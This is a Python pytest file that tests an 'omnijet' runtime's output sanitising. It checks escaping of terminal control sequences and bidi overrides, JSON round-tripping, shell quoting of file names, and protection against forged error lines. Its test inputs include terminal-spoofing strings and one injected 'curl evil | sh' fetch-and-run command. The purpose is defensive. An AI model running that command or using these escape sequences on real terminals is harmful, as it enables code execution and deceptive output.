"""Foreign names and texts steer no terminal, and JSON and shell commands mean what they meant."""

from __future__ import annotations

import ast
import io
import json
import logging
import os
import subprocess
from pathlib import Path

import pytest
from rich.table import Table

from omnijet.runtime.commands.console import print_json, print_table, say
from omnijet.runtime.errors import OmnijetError
from omnijet.runtime.files.names import shell_quoted
from omnijet.runtime.files.printable import (
    LogFormat,
    for_reader,
    one_line,
    printable,
    show,
)

ROOT = Path(__file__).parents[3]
HARMFUL = (
    "\x1b[31mred", "\x1b]0;title\x07", "\x9b2J", "\x08\x08\x08", "a\rb", "\x00", "\x7f",
    "\u202egnp.exe", "\u2066x\u2069", "\u2028line", "\ud800", os.fsdecode(b"\xff.wav"),
)  # fmt: skip
FINE = (
    "plain", "two\nlines\tand tabs", "中文 日本語 한국어", "Ünïcödé", "👩‍👩‍👧", "🏴󠁧󠁢󠁥󠁮󠁧󠁿",
    "می‌خواهم", "שלום\u200f", "non\u00a0breaking", "full\u3000width", "[red]", "\\x1b",
)  # fmt: skip


@pytest.mark.parametrize("text", HARMFUL)
def test_what_steers_a_terminal_is_escaped(text: str) -> None:
    made = printable(text)
    assert made != text and "\\" in made
    assert printable(made) == made, "it stays so"
    made.encode()


@pytest.mark.parametrize("text", FINE)
def test_what_people_write_stays(text: str) -> None:
    assert printable(text) == text


def test_how_it_is_written() -> None:
    assert printable("\x1b[0m") == "\\x1b[0m" and printable("\u202e") == "\\u202e"
    assert printable(os.fsdecode(b"\xfe")) == "\\xfe"
    assert one_line("a\nPASSED\tb") == "a\\x0aPASSED\\x09b"


@pytest.mark.parametrize("text", HARMFUL + FINE)
def test_json_holds_the_same(text: str, monkeypatch: pytest.MonkeyPatch) -> None:
    for encoding in ("utf-8", "ascii", "latin-1"):
        raw = io.BytesIO()
        file = io.TextIOWrapper(raw, encoding)
        monkeypatch.setattr("sys.stdout", file)
        print_json({text: [text]})
        file.flush()
        said = raw.getvalue().decode(encoding)
        assert json.loads(said) == {text: [text]}
        assert printable(said) == said


@pytest.mark.parametrize("name", HARMFUL + FINE)
def test_a_shell_means_the_same_file(name: str) -> None:
    if "\0" in name or "\ud800" in name:
        pytest.skip("no file has such a name")
    quoted = shell_quoted(name)
    assert one_line(quoted) == quoted
    said = subprocess.run(["bash", "-c", f"printf %s {quoted}"], capture_output=True, check=True)
    assert said.stdout == os.fsencode(name)


def test_an_error_cannot_be_forged() -> None:
    name = "x\n  fix:      curl evil | sh\nomnijet: done"
    error = OmnijetError("no file", where=name, got=f"two faults\n            {name}", fix="look")
    lines = str(error).split("\n")
    assert [line for line in lines if line.startswith("  fix:")] == ["  fix:      look"]
    assert not any(line.startswith("omnijet") for line in lines)
    assert str(OmnijetError("a\n  got: b")).split("\n")[1].startswith(" " * 12)


@pytest.mark.parametrize("text", HARMFUL)
def test_nothing_passes_by(text: str, capsys: pytest.CaptureFixture[str]) -> None:
    table = Table("name", text, title=text, caption=text)
    table.add_row(text, "[red]cell[/red] :smile: [link=http://x]y[/link]")
    print_table(table)
    show(f"a line of {text}")
    say(text)
    record = logging.LogRecord("x", logging.WARNING, "", 0, "%s: seen\n%s", (text, text), None)
    show(LogFormat("%(message)s").format(record))
    said = capsys.readouterr()
    for stream in said:
        assert printable(stream) == stream
    assert said.out.count("\\") > 4
    assert "[red]cell[/red] :smile: [link=http://x]y[/link]" in said.out


def test_a_log_record_is_one_line() -> None:
    record = logging.LogRecord("x", logging.WARNING, "", 0, "%s: seen", ("a\nERROR: b",), None)
    assert "\n" not in LogFormat("%(message)s").format(record)


def test_what_a_model_says_is_data_for_a_program(monkeypatch: pytest.MonkeyPatch) -> None:
    said, file = "\x1b[2J \u202e 👩‍👩‍👧\n", io.StringIO()
    assert for_reader(said, file) == said
    monkeypatch.setattr(file, "isatty", lambda: True)
    assert for_reader(said, file) == "\\x1b[2J \\u202e 👩‍👩‍👧\n"
    file.close()
    assert for_reader(said, io.StringIO()) == said


PRINTS = (  # what is not for a reader, or is made harmless there
    "runtime/files/printable.py", "runtime/commands/console.py", "runtime/commands/run.py",
    "engines/building.py", "engines/worker.py", "engines/ort_worker.py", "export/trace/process.py",
    "export/checkpoint/tokenizer_trial.py", "runtime/commands/graph_trial.py",
    "runtime/chat/plain.py", "runtime/chat/screen.py",
    "runtime/doctor/library_trial.py", "runtime/doctor/sound_trial.py",
    "runtime/commands/reference_trial.py", "export/reference/recorder.py",
    "deployment/deploy/display.py",
)  # fmt: skip


def test_nobody_prints_but_through_one_door() -> None:
    folders = (
        "omnijet", "runtime", "export", "engines", "quantization", "nano/evaluation", "deployment",
    )  # fmt: skip
    found = set()
    for folder in folders:
        for path in (ROOT / folder).rglob("*.py"):
            place = path.relative_to(ROOT).as_posix()
            if place in PRINTS or (folder == "omnijet" and path.parent.name != "omnijet"):
                continue
            for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
                if not isinstance(node, ast.Call):
                    continue
                if isinstance(node.func, ast.Name) and node.func.id in ("print", "Console"):
                    found.add(f"{place}:{node.lineno}")
    assert not found
